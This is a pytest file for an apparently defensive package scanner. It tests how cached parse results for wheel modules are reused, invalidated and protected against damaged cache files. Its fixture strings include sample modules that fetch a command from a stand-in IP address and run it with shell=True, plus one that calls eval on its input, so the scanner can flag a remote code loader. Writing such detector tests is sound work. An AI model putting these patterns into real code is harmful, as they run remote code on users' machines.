"""What is remembered of single files: the same report without it, with it and with a damaged one; nobody else is believed."""

from __future__ import annotations

import os
import zipfile
from datetime import datetime, timezone
from pathlib import Path

import pytest

from pratique import inspect, wiring
from pratique.code import calls, syntax
from pratique.code.machine import explore
from pratique.domain.looked import LookedInMemory
from pratique.store import looked
from pratique.store.looked import LookedFiles
from pratique.store.reports import folder

NOW = datetime(2026, 11, 29, tzinfo=timezone.utc)
QUIET = "import subprocess\n\n\ndef width(p):\n    return subprocess.DEVNULL, p.width(1)\n"
LEADS = "from .other import command\nimport subprocess\n\n\ndef go():\n    subprocess.run(command(), shell=True)\n"
HARMLESS = "def command():\n    return 'true'\n"
HARMFUL = "import urllib.request\n\n\ndef command():\n    return urllib.request.urlopen('http://203.0.113.9/x').read().decode()\n"
DECODES = "import base64\n\n\ndef unpacked(x):\n    eval(x)\n    return base64.b64decode(x)\n"


def release(path: Path, **modules: str) -> Path:
    with zipfile.ZipFile(path, "w") as wheel:
        wheel.writestr("drill/__init__.py", "VERSION = 1\n")
        for name, source in modules.items():
            wheel.writestr(f"drill/{name}.py", source)
        wheel.writestr("drill-1.dist-info/METADATA", "Name: drill\nVersion: 1\n")
    return path


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("PRATIQUE_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.setattr(wiring, "CACHED_FROM_BYTES", 0)
    monkeypatch.setattr(explore, "SMALL_BYTES", 0)  # all of a small package is run, and so parsed, each time
    return tmp_path


@pytest.fixture
def parsed(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The sources that are parsed from now on."""
    found: list[str] = []

    class Counted(syntax.Syntax):
        def __init__(self, source: str, module: str = "", is_package: bool = False) -> None:
            found.append(source)
            super().__init__(source, module, is_package)

    monkeypatch.setattr(syntax, "Syntax", Counted)
    monkeypatch.setattr(calls, "Syntax", Counted)
    return found


def test_what_did_not_change_is_not_parsed_again(place: Path, parsed: list[str]) -> None:
    inspect(release(place / "drill-1-py3-none-any.whl", a=QUIET, b=DECODES, other=HARMLESS), cached=True, now=NOW)
    assert {QUIET, DECODES} <= set(parsed)
    parsed.clear()
    again = release(place / "drill-2-py3-none-any.whl", a=QUIET, b=DECODES, other=HARMFUL)
    with_it = inspect(again, cached=True, now=NOW).to_json()
    assert QUIET not in parsed
    assert with_it == inspect(again, now=NOW).to_json()


def test_a_module_whose_flows_lead_elsewhere_is_looked_at_again(place: Path) -> None:
    first = inspect(release(place / "drill-1-py3-none-any.whl", a=LEADS, other=HARMLESS), cached=True, now=NOW)
    then = inspect(release(place / "drill-2-py3-none-any.whl", a=LEADS, other=HARMFUL), cached=True, now=NOW)
    assert not any(f.rule == "package/remote-code-loader" for f in first.report.findings)
    assert any(f.rule == "package/remote-code-loader" for f in then.report.findings)


def test_two_releases_that_are_compared_share_what_is_known(place: Path, parsed: list[str]) -> None:
    old = release(place / "drill-1-py3-none-any.whl", a=QUIET, other=HARMLESS)
    new = release(place / "drill-2-py3-none-any.whl", a=QUIET, other=HARMFUL)
    wiring.compare(old, new, now=NOW)
    assert parsed.count(QUIET) == 1
    assert not (place / "cache").exists()


@pytest.mark.parametrize("damage", ["cut", "bit", "garbage", "too long", "key of others", "no key", "folder"])
def test_a_damaged_file_changes_no_report(place: Path, damage: str, parsed: list[str]) -> None:
    target = release(place / "drill-1-py3-none-any.whl", a=QUIET, b=DECODES)
    plain = inspect(target, now=NOW).to_json()
    assert inspect(target, cached=True, now=NOW).to_json() == plain
    cache = Path(folder(os.environ))
    for report in cache.glob("*.report"):
        report.unlink()
    _damage(cache, damage)
    parsed.clear()
    assert inspect(target, cached=True, now=NOW).to_json() == plain
    assert QUIET in parsed


def _damage(cache: Path, damage: str) -> None:
    file, key = cache / "looked", cache / "key"
    data = file.read_bytes()
    if damage == "key of others":
        key.chmod(0o644)
    elif damage == "no key":
        key.unlink()
    elif damage == "folder":
        file.unlink()
        file.mkdir()
    else:
        changed = {
            "cut": data[:-1],
            "bit": data[:-1] + bytes([data[-1] ^ 1]),
            "garbage": b"x" * 96,
            "too long": data + bytes(3 << 20),
        }
        file.write_bytes(changed[damage])


def test_what_another_program_learnt_is_not_its_own(tmp_path: Path) -> None:
    first = LookedFiles(str(tmp_path), "1")
    first.found_empty("endings", "a")
    first.save()
    assert LookedFiles(str(tmp_path), "1").empty("endings", "a")
    assert not LookedFiles(str(tmp_path), "2").empty("endings", "a")
    assert not LookedFiles(str(tmp_path), "1").empty("endings", "b")


def test_what_was_not_used_makes_room(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(looked, "MAX_FACTS", 3)
    for names in ("ab", "c"):
        one = LookedFiles(str(tmp_path), "1")
        for name in names:
            one.found_empty(name)
        one.save()
    one = LookedFiles(str(tmp_path), "1")
    assert one.empty("a")
    one.found_empty("d")
    one.save()
    last = LookedFiles(str(tmp_path), "1")
    assert [last.empty(name) for name in "abcd"] == [True, False, True, True]


def test_two_processes_that_end_at_once_keep_what_both_learnt_or_one(tmp_path: Path) -> None:
    one, other = LookedFiles(str(tmp_path), "1"), LookedFiles(str(tmp_path), "1")
    one.found_empty("a")
    other.found_empty("b")
    one.save()
    other.save()
    assert LookedFiles(str(tmp_path), "1").empty("b")


def test_a_fact_is_told_from_another_by_every_word() -> None:
    memory = LookedInMemory()
    memory.found_empty("endings", "x", "y")
    assert memory.empty("endings", "x", "y")
    assert not memory.empty("endings", "x")
